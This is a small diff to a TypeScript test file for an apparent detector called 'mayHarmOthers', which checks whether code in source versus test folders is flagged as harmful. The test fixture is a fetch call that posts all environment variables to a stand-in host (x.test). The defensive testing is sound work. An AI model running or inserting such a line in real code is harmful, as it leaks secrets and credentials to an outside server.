@@ -10,8 +10,8 @@ async function harmOf(path: string, content: string): Promise<readonly string[]>
 
 describe('a project in a folder that has the name of one for tests', () => {
   it.each(['/home/u/docs/shop', '/home/u/test/shop'])('%s', (root) => {
-    expect(mayHarmOthers(`${root}/src/a.js`, "fetch('https://x.test/c', { body: JSON.stringify(process.env) });", root)).toBe(true);
-    expect(mayHarmOthers(`${root}/test/a.js`, "fetch('https://x.test/c', { body: JSON.stringify(process.env) });", root)).toBe(false);
+    expect(mayHarmOthers(`${root}/src/a.js`, "fetch('https://x.test/c', { body: JSON.stringify(process.env) });", { root })).toBe(true);
+    expect(mayHarmOthers(`${root}/test/a.js`, "fetch('https://x.test/c', { body: JSON.stringify(process.env) });", { root })).toBe(false);
   });
 });
 
